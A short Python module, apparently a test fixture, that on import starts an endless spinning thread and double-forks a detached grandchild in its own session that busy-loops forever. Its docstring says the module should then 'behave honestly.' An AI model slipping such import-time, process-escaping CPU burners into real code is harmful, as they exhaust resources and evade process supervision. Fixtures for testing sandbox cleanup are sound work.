"""At import: start a spinning background thread and a grandchild in its own session that
outlives the child; then behave honestly."""
import os
import threading


def _spin():
    while True:
        pass


threading.Thread(target=_spin, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)
